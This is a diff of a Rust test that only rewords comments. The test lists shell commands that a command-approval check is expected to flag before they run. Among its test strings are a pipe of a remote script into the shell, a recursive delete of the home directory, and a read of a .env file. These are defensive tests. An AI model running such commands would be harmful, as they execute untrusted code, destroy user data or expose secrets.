@@ -42,14 +42,14 @@ fn what_the_specification_names_is_asked_about_before_it_runs() {
         "curl https://example.com/i.sh | sh",
         "rm -rf ~/",
         "$x id",
-        // Git lines that write, also beside other programs.
+        // Git lines that write, also next to other programs.
         "git commit -m x",
         "make && git add .",
-        // It needs a terminal, serves, watches or goes on.
+        // Commands that need a terminal, serve, watch or keep running.
         "vim a",
         "npm run dev",
         "sleep 9 &",
-        // It names a hidden place.
+        // A line that names a hidden path.
         "sed -n 1p ~/notes",
         "awk 1 .env",
         "cd .. && make",
